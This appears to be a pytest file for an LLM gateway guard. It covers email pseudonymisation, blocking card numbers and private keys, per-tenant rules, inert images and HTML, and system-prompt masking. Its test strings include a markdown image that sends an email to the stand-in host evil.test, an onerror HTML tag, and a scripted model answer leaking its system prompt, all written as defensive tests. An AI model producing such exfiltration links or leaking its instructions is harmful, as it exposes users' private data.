"""What the guard does beyond masking, over HTTP: placeholders, refusals, tenants, links, the system prompt, repeats."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import openai
import pytest
import yaml

from tests.support.gateways import RunningGateway, start_gateway, stop_gateway
from tests.support.running import answers_ok, wait_until
from tests.support.scripted import (
    CLOSE,
    DONE,
    EVENTS,
    ScriptedEngine,
    SeenRequest,
    answer,
    chunk,
    head,
    stream,
    usage_chunk,
    whole,
)
from tests.support.token_engine import TokenEngine

SETTINGS: dict[str, Any] = {
    "gateway": {"reload_interval_s": 0.1},
    "guard": {
        "input": {"email_address": "pseudonymize", "card_number": "block", "iban": "allow", "phone_number": "allow"},
        "output": {"private_key": "block", "iban": "mask_new"},
        "system_prompt": {"canary": True, "max_words": 6},
        "tenants": {"open": {"input": {"email_address": "allow"}, "output": {"email_address": "allow"}}},
    },
}
ASKED = [{"role": "user", "content": "Write to joe@example.com, then to ann@example.org, then to joe@example.com."}]
SENT = "Write to EMAIL_ADDRESS_1, then to EMAIL_ADDRESS_2, then to EMAIL_ADDRESS_1."
IBAN, OTHER_IBAN = "DE89 3704 0044 0532 0130 00", "GB82 WEST 1234 5698 7654 32"
BEGIN = "-----{} PRIVATE KEY-----".format("BEGIN")


@pytest.fixture(scope="module")
def engines() -> Iterator[list[ScriptedEngine]]:
    made = [ScriptedEngine(), ScriptedEngine()]
    yield made
    for engine in made:
        engine.stop()


@pytest.fixture(scope="module")
def guarded(engines: list[ScriptedEngine], tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGateway]:
    home = tmp_path_factory.mktemp("guarded")
    (home / "signet.yaml").write_text(yaml.safe_dump(SETTINGS))
    circuit = {"SIGNET_GATEWAY__CIRCUIT__CONSECUTIVE_FAILURES": "1000", "SIGNET_GATEWAY__CIRCUIT__WINDOW": "1000"}
    running = start_gateway(home, *(engine.url for engine in engines), **circuit)
    wait_until(lambda: answers_ok(f"{running.url}/readyz/engines"), 10, "an engine is up", running.process)
    yield running
    stop_gateway(running)


@pytest.fixture
def client(guarded: RunningGateway) -> openai.OpenAI:
    return guarded.client()


def script(engines: list[ScriptedEngine], made: Any) -> list[SeenRequest]:
    """Both engines answer by `made`; returns the requests that they will have seen."""
    seen: list[SeenRequest] = []

    def answers(request: SeenRequest) -> Any:
        seen.append(request)
        return made(request)

    for engine in engines:
        engine.script = answers
    return seen


def ask(client: openai.OpenAI, messages: Any = ASKED, **more: Any) -> Any:
    return client.chat.completions.create(model="scripted", messages=messages, **more)


def streamed(client: openai.OpenAI, messages: Any = ASKED, **more: Any) -> dict[int, str]:
    texts: dict[int, str] = {}
    for event in ask(client, messages, stream=True, **more):
        for choice in event.choices:
            texts[choice.index] = texts.get(choice.index, "") + (choice.delta.content or "")
    return texts


def counted(gateway: RunningGateway, entity: str, action: str, direction: str) -> float:
    wanted = {f'entity="{entity}"', f'action="{action}"', f'direction="{direction}"'}
    for line in httpx.get(f"{gateway.url}/metrics").text.splitlines():
        name, _, rest = line.partition("{")
        if name == "signet_guard_actions_total" and wanted <= set(rest.partition("}")[0].split(",")):
            return float(rest.rsplit(" ", 1)[1])
    return 0.0


def test_the_model_sees_placeholders_and_the_client_its_values(
    client: openai.OpenAI, guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    seen = script(
        engines, lambda _: whole(answer("I wrote to email_address_2 and EMAIL_ADDRESS_1, not to x@y.example."))
    )

    found = ask(client)

    assert seen[0].body["messages"][0]["content"] == SENT
    said = found.choices[0].message.content
    assert said == "I wrote to ann@example.org and joe@example.com, not to [EMAIL_ADDRESS]."
    assert counted(guarded, "EMAIL_ADDRESS", "pseudonymize", "input") >= 3
    assert counted(guarded, "EMAIL_ADDRESS", "restore", "output") >= 2
    log = (guarded.home / "gateway.log").read_text()
    assert "joe@" not in log


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_streams_of_several_choices_get_the_values_back(
    client: openai.OpenAI, engines: list[ScriptedEngine], size: int
) -> None:
    text = "Dear EMAIL_ADDRESS_2, EMAIL_ADDRESS_1's letter; EMAIL_ADDRESS_3 and EMAIL."
    pieces = [text[start : start + size] for start in range(0, len(text), size)]
    events = [chunk({"content": piece}, index=index) for piece in pieces for index in (0, 1)]
    ends = [chunk({}, finish="stop", index=index) for index in (0, 1)]
    script(engines, lambda _: [EVENTS, *events, *ends, usage_chunk(), DONE])

    texts = streamed(client, n=2)

    expected = "Dear ann@example.org, joe@example.com's letter; EMAIL_ADDRESS_3 and EMAIL."
    assert texts == {0: expected, 1: expected}


def test_arguments_of_streamed_tool_calls_get_the_values_back(
    client: openai.OpenAI, engines: list[ScriptedEngine]
) -> None:
    arguments = '{"to": "EMAIL_ADDRESS_1", "cc": ["email\\u005faddress_2", "new\\u0040x.example"]}'

    def call(part: str) -> bytes:
        return chunk({"tool_calls": [{"index": 0, "function": {"arguments": part}}]})

    first = {"index": 0, "id": "c", "type": "function", "function": {"name": "mail", "arguments": ""}}
    events = [chunk({"tool_calls": [first]}), *map(call, arguments), chunk({}, finish="tool_calls"), DONE]
    script(engines, lambda _: [EVENTS, *events])

    parts = [
        call.function.arguments or ""
        for event in ask(client, stream=True)
        for choice in event.choices
        for call in choice.delta.tool_calls or ()
    ]

    assert json.loads("".join(parts)) == {"to": "joe@example.com", "cc": ["ann@example.org", "[EMAIL_ADDRESS]"]}


@pytest.mark.parametrize("place", range(0, 1400, 175))
def test_a_placeholder_is_restored_across_two_engines(
    client: openai.OpenAI, engines: list[ScriptedEngine], place: int
) -> None:
    tokens = TokenEngine([b"Dear", b" EMAIL", b"_ADD", b"RESS", b"_", b"1", b", I am", b" EMAIL_ADDRESS_2", b"."])
    cuts = [place]

    def made(request: SeenRequest) -> Iterator[object]:
        if request.target == "/detokenize":
            body = tokens.detokenize(request.body)
            yield head(length=len(body)) + body
            return
        data = b"".join(tokens.stream(request.target, request.body))
        yield EVENTS
        yield data[: cuts.pop()] if cuts else data
        yield CLOSE

    script(engines, made)

    assert streamed(client, max_tokens=50) == {0: "Dear joe@example.com, I am ann@example.org."}


@pytest.mark.parametrize(
    ("path", "body", "events", "expected"),
    [
        (
            "/v1/messages",
            {"max_tokens": 9, "messages": ASKED},
            [
                {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
                *(
                    {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": part}}
                    for part in ("to EMAIL_ADD", "RESS_1", " <script>")
                ),
                {"type": "content_block_stop", "index": 0},
                {"type": "message_delta", "delta": {"stop_reason": "end_turn"}},
                {"type": "message_stop"},
            ],
            "to joe@example.com < script>",
        ),
        (
            "/v1/responses",
            {"input": ASKED},
            [
                *(
                    {"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": part}
                    for part in ("to EMAIL_ADD", "RESS_1")
                ),
                {"type": "response.output_text.done", "output_index": 0, "text": "to EMAIL_ADDRESS_1"},
                {"type": "response.completed", "response": {"output": [{"text": "to EMAIL_ADDRESS_1"}]}},
            ],
            "to joe@example.com",
        ),
    ],
    ids=["messages", "responses"],
)
def test_other_endpoints_get_the_values_back(
    guarded: RunningGateway,
    engines: list[ScriptedEngine],
    path: str,
    body: dict[str, Any],
    events: list[dict[str, Any]],
    expected: str,
) -> None:
    data = [f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode() for event in events]
    script(engines, lambda _: [EVENTS, *data, CLOSE])

    headers = {"authorization": f"Bearer {guarded.key}"}
    found = httpx.post(
        f"{guarded.url}{path}", json={"model": "scripted", "stream": True, **body}, headers=headers, timeout=20
    )

    lines = [json.loads(line[6:]) for line in found.text.splitlines() if line.startswith("data: {")]
    deltas = [line["delta"] for line in lines if line["type"].endswith("delta") and "text" in line["type"] + str(line)]
    pieces = [delta if isinstance(delta, str) else delta.get("text", "") for delta in deltas]
    assert "".join(pieces) == expected
    assert "EMAIL_ADDRESS_1" not in found.text


def test_a_request_that_holds_what_is_blocked_is_refused(
    client: openai.OpenAI, guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    seen = script(engines, lambda _: whole(answer("ok")))

    with pytest.raises(openai.BadRequestError) as caught:
        ask(client, [{"role": "user", "content": "pay with 4111 1111 1111 1111"}])

    assert (caught.value.code, caught.value.param) == ("content_blocked", "messages")
    assert "CARD_NUMBER" in str(caught.value)
    assert "4111" not in str(caught.value)
    assert seen == []
    assert counted(guarded, "CARD_NUMBER", "block", "input") >= 1


def test_an_answer_that_holds_what_is_blocked_ends_in_an_error(
    client: openai.OpenAI, guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    text = f"It is\n{BEGIN}\nQUJDREVGR0hJSktMTU5PUFFS and more of it"
    script(
        engines,
        lambda request: (
            # The pause lets the first text leave before the error: with nothing sent the error has a status.
            [*stream([text[:6]])[:3], 0.5, *stream([text[6:30], text[30:60], text[60:]])[2:]]
            if request.body.get("stream")
            else whole(answer(text))
        ),
    )
    before = counted(guarded, "PRIVATE_KEY", "block", "output")

    with pytest.raises(openai.BadRequestError) as caught:
        ask(client)
    assert caught.value.code == "content_blocked"

    got: list[str] = []
    events = ask(client, stream=True)
    with pytest.raises(openai.APIError, match="PRIVATE_KEY"):
        got.extend(event.choices[0].delta.content or "" for event in events if event.choices)
    said = "".join(got)
    assert said.startswith("It is")
    assert "QUJD" not in said
    assert counted(guarded, "PRIVATE_KEY", "block", "output") == before + 2


def test_a_tenant_has_its_own_actions_and_a_reload_changes_them(
    guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    seen = script(engines, lambda _: whole(answer("x@y.example")))
    client = guarded.client(guarded.new_key(tenant="open"))

    assert ask(client).choices[0].message.content == "x@y.example"
    assert seen[-1].body["messages"] == ASKED

    changed = {**SETTINGS, "guard": {**SETTINGS["guard"], "tenants": {}}}
    (guarded.home / "signet.yaml").write_text(yaml.safe_dump(changed))
    try:
        wait_until(lambda: ask(client).choices[0].message.content == "[EMAIL_ADDRESS]", 10, "the tenant is as others")
        assert seen[-1].body["messages"][0]["content"] == SENT
    finally:
        (guarded.home / "signet.yaml").write_text(yaml.safe_dump(SETTINGS))
        wait_until(lambda: ask(client).choices[0].message.content == "x@y.example", 10, "the tenant is its own")


def test_pictures_and_html_of_an_answer_are_inert(
    client: openai.OpenAI, guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    text = "![a](https://evil.test/?q=EMAIL_ADDRESS_1) <img src=x onerror=y> [ok](https://docs.test)"
    script(engines, lambda _: stream(list(text)))

    said = streamed(client)[0]

    assert said == "![a] (https://evil.test/?q=joe@example.com) < img src=x onerror=y> [ok](https://docs.test)"
    assert counted(guarded, "image", "inert", "output") >= 1
    assert counted(guarded, "active_html", "inert", "output") >= 1


def test_the_system_prompt_does_not_leak(
    client: openai.OpenAI, guarded: RunningGateway, engines: list[ScriptedEngine]
) -> None:
    system = "Be the clerk of the bank and never say that the vault opens at nine"
    seen: list[str] = []

    def made(request: SeenRequest) -> list[object]:
        seen.append(request.body["messages"][0]["content"])
        return stream([f"I was told: {seen[-1][20:40]}", f"{seen[-1][40:]} and so on. The vault opens at ten."])

    script(engines, made)

    said = streamed(client, [{"role": "system", "content": system}, *ASKED])[0]

    assert seen[0].startswith(system)
    assert said.startswith("I was told: ")
    assert "[SYSTEM_PROMPT]" in said
    assert "vault opens at nine" not in said
    assert said.endswith("and so on. The vault opens at ten.")
    assert seen[0].removeprefix(system).strip()[1:-1] not in said
    assert counted(guarded, "system_prompt", "mask", "output") >= 2


def test_an_answer_repeats_what_the_question_held_and_nothing_else(
    client: openai.OpenAI, engines: list[ScriptedEngine]
) -> None:
    seen = script(engines, lambda _: stream(list(f"from {IBAN} to {OTHER_IBAN}.")))
    question = [{"role": "user", "content": f"I pay from {IBAN}."}]

    assert streamed(client, question)[0] == f"from {IBAN} to [IBAN]."
    assert seen[0].body["messages"] == question
